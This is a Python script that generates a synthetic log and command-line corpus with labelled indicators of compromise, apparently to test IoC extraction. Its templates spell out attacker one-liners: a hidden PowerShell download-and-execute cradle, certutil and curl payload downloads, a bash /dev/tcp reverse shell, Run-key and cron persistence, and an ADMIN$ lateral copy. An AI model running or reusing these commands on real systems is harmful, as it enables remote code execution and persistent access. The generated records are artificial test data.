"""Seeded generator of a mixed command-line / log corpus with known IoCs (ground truth).

Each record is one line of realistic text (process command lines, firewall, sshd, web, mail and
DNS logs, threat-intel notes) with IoCs embedded, plus decoys that are *not* IoCs: version numbers
(1.2.3.4.5, 10.0.19041.1), clock times (12:30:45), MAC addresses, file names whose extension is
also a TLD (payload.zip, install.sh), PowerShell `[Type]::Method` calls, dates.

Output: JSON lines, one per record: {"text": str, "truth": [[type, canonical], ...]}.
The truth lists every IoC the record holds, canonical (refanged; host, scheme and hashes lower
case; IPv6 compressed), including the parts an IoC implies: a URL's host (dns, ipv4 or ipv6), an
e-mail address's domain (dns), a UNC path's server, an IPv4 segment of a Linux path, and a URL
nested percent-encoded in a URL (decoded) with its host.

Usage: python gen_corpus.py --seed 7 --records 20000 --out corpus.jsonl
       python gen_corpus.py --seed 7 --bytes 1000000 --out corpus.jsonl
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
from urllib.parse import quote

TLDS = [
    "com",
    "net",
    "org",
    "io",
    "ru",
    "cn",
    "info",
    "xyz",
    "top",
    "de",
    "co.uk",
    "biz",
    "online",
    "site",
    "me",
]
WORDS = [
    "alpha",
    "update",
    "secure",
    "login",
    "cdn",
    "files",
    "portal",
    "mail",
    "static",
    "api",
    "micro",
    "cloud",
    "sync",
    "data",
    "office",
    "support",
    "news",
    "shop",
    "track",
    "dl",
    "host",
    "node",
]
USERS = ["bob", "alice", "svc_backup", "administrator", "j.smith", "mary.jones", "it-ops"]
EXE = [
    "svchost.exe",
    "update.exe",
    "rundll32.exe",
    "payload.dll",
    "invoice.js",
    "run.ps1",
    "setup.msi",
]
DECOY_FILES = [
    "cmd.exe",
    "report.pdf",
    "payload.zip",
    "install.sh",
    "setup.py",
    "notes.md",
    "clip.mov",
    "invoice.doc",
]


class Gen:
    def __init__(self, seed: int) -> None:
        self.r = random.Random(seed)

    def pick(self, items):
        return self.r.choice(items)

    def word(self) -> str:
        w = self.pick(WORDS)
        if self.r.random() < 0.5:
            w += str(self.r.randint(1, 99))
        if self.r.random() < 0.2:
            w += "-" + self.pick(WORDS)
        return w

    # --- IoCs: each returns (written, canonical, extra truth) -------------------------------
    def domain(self, defang: bool = False):
        labels = [self.word() for _ in range(self.r.randint(1, 3))]
        name = ".".join(labels) + "." + self.pick(TLDS)
        canonical = name.lower()
        if self.r.random() < 0.2:
            name = name.upper() if self.r.random() < 0.3 else name.capitalize()
        if defang:
            name = name.replace(".", self.pick(["[.]", "[.]", "(.)", "[dot]"]))
        return name, canonical

    def ipv4(self, defang: bool = False):
        first = self.pick([23, 45, 77, 91, 103, 145, 185, 193, 203, 212])
        addr = f"{first}.{self.r.randint(0, 255)}.{self.r.randint(0, 255)}.{self.r.randint(1, 254)}"
        written = addr.replace(".", "[.]") if defang else addr
        return written, addr

    def ipv6(self):
        kind = self.r.randint(0, 3)
        groups = [f"{self.r.randint(0, 0xFFFF):x}" for _ in range(8)]
        if kind == 0:
            written = ":".join(groups)
        elif kind == 1:
            written = f"2001:db8:{groups[2]}::{groups[7]}"
        elif kind == 2:
            written = f"fe80::{groups[4]}:{groups[5]}"
        else:
            written = f"2a01:{groups[1]}:{groups[2]}:{groups[3]}::{groups[6]}:{groups[7]}"
        if self.r.random() < 0.2:
            written = written.upper()
        return written, ipaddress.ip_address(written).compressed

    def url(self, defang: bool = False):
        scheme = self.pick(["http", "https", "https", "ftp"])
        if self.r.random() < 0.2:
            host_w, host_c = self.ipv4()
            host_type = "ipv4"
        else:
            host_w, host_c = self.domain(defang=defang)
            host_type = "dns"
        port = f":{self.pick([8080, 443, 8443, 4444])}" if self.r.random() < 0.2 else ""
        path = "/" + "/".join(self.word() for _ in range(self.r.randint(0, 3)))
        if self.r.random() < 0.5:
            path += "/" + self.pick(["a.php", "index.html", "payload.bin", "x.ps1", "gate.php"])
        if self.r.random() < 0.4:
            path += f"?id={self.r.randint(1, 99999)}&k={self.word()}"
        written_scheme = scheme
        if defang:
            written_scheme = {"http": "hxxp", "https": "hxxps", "ftp": "fxp"}[scheme]
            if self.r.random() < 0.3:
                written_scheme = written_scheme.replace("xx", "XX")
        written = f"{written_scheme}://{host_w}{port}{path}"
        canonical = f"{scheme}://{host_c}{port}{path}"
        return written, canonical, [(host_type, host_c)]

    def email(self, defang: bool = False):
        local = self.pick(USERS) + (str(self.r.randint(1, 99)) if self.r.random() < 0.3 else "")
        dom_w, dom_c = self.domain(defang=defang)
        at = self.pick(["[at]", "[AT]", "(at)"]) if defang else "@"
        return f"{local}{at}{dom_w}", f"{local}@{dom_c}", [("dns", dom_c)]

    def hexstr(self, n: int) -> str:
        h = "".join(self.r.choice("0123456789abcdef") for _ in range(n))
        return h.upper() if self.r.random() < 0.2 else h

    def winpath(self):
        user = self.pick(USERS)
        kind = self.r.randint(0, 4)
        if kind == 0:
            p = f"C:\\Users\\{user}\\AppData\\Local\\Temp\\{self.pick(EXE)}"
        elif kind == 1:
            folder = self.pick(["Common Files", "Microsoft Office", "App"])
            p = f"C:\\Program Files\\{folder}\\{self.pick(EXE)}"
        elif kind == 2:
            p = f"%APPDATA%\\Microsoft\\{self.word()}\\{self.pick(EXE)}"
        elif kind == 3:
            p = f"C:\\Windows\\System32\\{self.pick(EXE)}"
        else:
            p = f"\\\\FILESRV{self.r.randint(1, 9)}\\share\\{self.word()}\\{self.pick(EXE)}"
        return p, p

    def linuxpath(self):
        p = self.pick(
            [
                f"/tmp/.{self.word()}/{self.word()}",
                f"/var/www/html/{self.word()}.php",
                f"/home/{self.pick(['bob', 'alice'])}/.ssh/id_rsa",
                "/etc/passwd",
                "/etc/shadow",
                "/usr/bin/python3",
                f"/opt/{self.word()}/bin/{self.word()}",
                f"/dev/shm/{self.word()}",
            ]
        )
        return p, p


def record(g: Gen):
    """One record: (text, truth list)."""
    r = g.r
    truth: list[tuple[str, str]] = []

    def add(t, c, extra=()):
        truth.append((t, c))
        truth.extend(extra)

    kind = r.randint(0, 19)
    time = f"{r.randint(0, 23):02d}:{r.randint(0, 59):02d}:{r.randint(0, 59):02d}"
    if kind == 0:
        exe_w, _ = g.winpath()
        u_w, u_c, extra = g.url()
        add("url", u_c, extra)
        add("windows_path", exe_w)
        text = (
            f"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -c "
            f"\"IEX (New-Object Net.WebClient).DownloadString('{u_w}'); Start-Process {exe_w}\""
        )
        add("windows_path", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
    elif kind == 1:
        u_w, u_c, extra = g.url()
        p_w, _ = g.winpath()
        add("url", u_c, extra)
        add("windows_path", p_w)
        text = f"certutil.exe -urlcache -split -f {u_w} {p_w}"
    elif kind == 2:
        u_w, u_c, extra = g.url()
        l_w, _ = g.linuxpath()
        add("url", u_c, extra)
        add("linux_path", l_w)
        add("linux_path", "/usr/bin/curl")
        text = f"/usr/bin/curl -fsSL {u_w} -o {l_w} && chmod +x {l_w}"
    elif kind == 3:
        ip_w, ip_c = g.ipv4()
        port = r.randint(1024, 65535)
        add("ipv4", ip_c)
        add("linux_path", f"/dev/tcp/{ip_c}/{port}")
        text = f"bash -i >& /dev/tcp/{ip_w}/{port} 0>&1"
    elif kind == 4:
        a_w, a_c = g.ipv4()
        b_w, b_c = g.ipv4()
        add("ipv4", a_c)
        add("ipv4", b_c)
        text = (
            f"2024-03-{r.randint(1, 28):02d} {time} ALLOW TCP {a_w}:{r.randint(1024, 65535)} "
            f"-> {b_w}:443 bytes={r.randint(1, 99999)}"
        )
    elif kind == 5:
        ip_w, ip_c = g.ipv4()
        add("ipv4", ip_c)
        text = (
            f"Mar {r.randint(1, 28):2d} {time} web01 sshd[{r.randint(100, 9999)}]: "
            f"Failed password for root from {ip_w} port {r.randint(1024, 65535)} "
            f"ssh2"
        )
    elif kind == 6:
        ip_w, ip_c = g.ipv4()
        u_w, u_c, extra = g.url()
        add("ipv4", ip_c)
        add("url", u_c, extra)
        page = f"/{g.word()}/{g.word()}.php"
        add("linux_path", page)
        text = (
            f'{ip_w} - - [01/Mar/2024:{time} +0000] "GET {page} HTTP/1.1" '
            f"200 {r.randint(100, 9999)} "
            f'"{u_w}" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"'
        )
    elif kind == 7:
        e1_w, e1_c, x1 = g.email()
        e2_w, e2_c, x2 = g.email()
        d_w, d_c = g.domain()
        ip_w, ip_c = g.ipv4()
        add("email", e1_c, x1)
        add("email", e2_c, x2)
        add("dns", d_c)
        add("ipv4", ip_c)
        text = (
            f"postfix/smtp[{r.randint(100, 9999)}]: from=<{e1_w}> to=<{e2_w}> "
            f"relay={d_w}[{ip_w}]:25 delay=0.{r.randint(1, 99)} status=sent"
        )
    elif kind == 8:
        d_w, d_c = g.domain()
        add("dns", d_c)
        text = (
            f"{time}.{r.randint(100, 999)} client 10.0.{r.randint(0, 255)}.{r.randint(1, 254)}#53 "
            f"query: {d_w} IN A +E"
        )
        add("ipv4", text.split(" client ")[1].split("#")[0])
    elif kind == 9:
        u_w, u_c, extra = g.url(defang=True)
        ip_w, ip_c = g.ipv4(defang=True)
        d_w, d_c = g.domain(defang=True)
        e_w, e_c, xe = g.email(defang=True)
        add("url", u_c, extra)
        add("ipv4", ip_c)
        add("dns", d_c)
        add("email", e_c, xe)
        text = f"TI note: C2 {u_w} resolves via {d_w} to {ip_w}; phish sender {e_w}."
    elif kind == 10:
        md5, sha1, sha256 = g.hexstr(32), g.hexstr(40), g.hexstr(64)
        add("md5_hash", md5.lower())
        add("sha1_hash", sha1.lower())
        add("sha256_hash", sha256.lower())
        text = (
            f"Defender detected {g.pick(EXE)} md5={md5} sha1:{sha1} SHA256 "
            f"{sha256} action=quarantine"
        )
    elif kind == 11:
        v6_w, v6_c = g.ipv6()
        add("ipv6", v6_c)
        text = (
            f"Mar {r.randint(1, 28):2d} {time} bastion sshd[{r.randint(100, 9999)}]: "
            f"Accepted publickey for admin from {v6_w} port {r.randint(1024, 65535)} "
            f"ssh2"
        )
    elif kind == 12:
        ver = ".".join(str(r.randint(0, 20)) for _ in range(r.randint(5, 6)))
        mac = ":".join(f"{r.randint(0, 255):02x}" for _ in range(6))
        text = (
            f"Installed {g.word()} {ver} at {time} "
            f"(build 10.0.{r.randint(10000, 22000)}.{r.randint(1, 999)}); "
            f"opened {g.pick(DECOY_FILES)} and {g.pick(DECOY_FILES)} with "
            f"{g.pick(DECOY_FILES)} on {mac}"
        )
    elif kind == 13:
        p_w, _ = g.winpath()
        add("windows_path", p_w)
        text = (
            f"reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run "
            f'/v {g.word()} /t REG_SZ /d "{p_w}" /f'
        )
        add("registry_key", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")
    elif kind == 14:
        u_w, u_c, extra = g.url()
        cve = f"CVE-{r.randint(2014, 2025)}-{r.randint(1000, 99999)}"
        add("cve", cve)
        add("url", u_c, extra)
        text = f"Exploit attempt for {cve} against {u_w} blocked at {time}"
    elif kind == 15:
        ip_w, ip_c = g.ipv4()
        exe = g.pick(EXE)
        add("ipv4", ip_c)
        add("windows_path", f"\\\\{ip_c}\\ADMIN$\\{exe}")
        add("windows_path", f"C:\\Windows\\Temp\\{exe}")
        text = f"cmd.exe /c copy C:\\Windows\\Temp\\{exe} \\\\{ip_w}\\ADMIN$\\{exe}"
    elif kind == 16:
        d_w, d_c = g.domain()
        inner_w, inner_c, extra = g.url()
        outer = f"https://{d_w}/redirect?url={quote(inner_w, safe='')}"
        outer_c = f"https://{d_c}/redirect?url={quote(inner_w, safe='')}"
        add("url", outer_c, [("dns", d_c)])
        add("url", inner_c, extra)
        text = f'<a href="{outer}">click here</a> sent at {time}'
    elif kind == 17:
        sha512 = g.hexstr(128)
        add("sha512_hash", sha512.lower())
        text = (
            f"$b = [Convert]::FromBase64String($s); [IO.File]::WriteAllBytes('out.bin', "
            f"$b) # sha512 {sha512}"
        )
    elif kind == 18:
        l_w, _ = g.linuxpath()
        add("linux_path", l_w)
        add("linux_path", "/etc/cron.d/update")
        text = (
            f"echo '* * * * * root {l_w}' >> /etc/cron.d/update # at {time} "
            f"on 2024/03/{r.randint(10, 28)}"
        )
    else:
        e_w, e_c, xe = g.email()
        d_w, d_c = g.domain()
        add("email", e_c, xe)
        add("dns", d_c)
        text = (
            f"Subject: Invoice {r.randint(1000, 9999)} attached (invoice.zip) "
            f"From: {e_w} Reply-To via {d_w} Date: Fri, 01 Mar 2024 {time} "
            f"+0000"
        )
    return text, sorted(set(truth))


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--records", type=int, default=0)
    ap.add_argument("--bytes", type=int, default=0)
    ap.add_argument("--out", required=True)
    ap.add_argument("--text-out", help="also write the bare text, one record per line")
    args = ap.parse_args()
    g = Gen(args.seed)
    total = 0
    n = 0
    texts = []
    with open(args.out, "w", encoding="utf-8") as out:
        while (args.records and n < args.records) or (args.bytes and total < args.bytes):
            text, truth = record(g)
            out.write(json.dumps({"text": text, "truth": truth}) + "\n")
            texts.append(text)
            total += len(text.encode()) + 1
            n += 1
    if args.text_out:
        with open(args.text_out, "w", encoding="utf-8") as text_out:
            text_out.write("".join(t + "\n" for t in texts))
    print(f"{n} records, {total} bytes -> {args.out}")


if __name__ == "__main__":
    main()
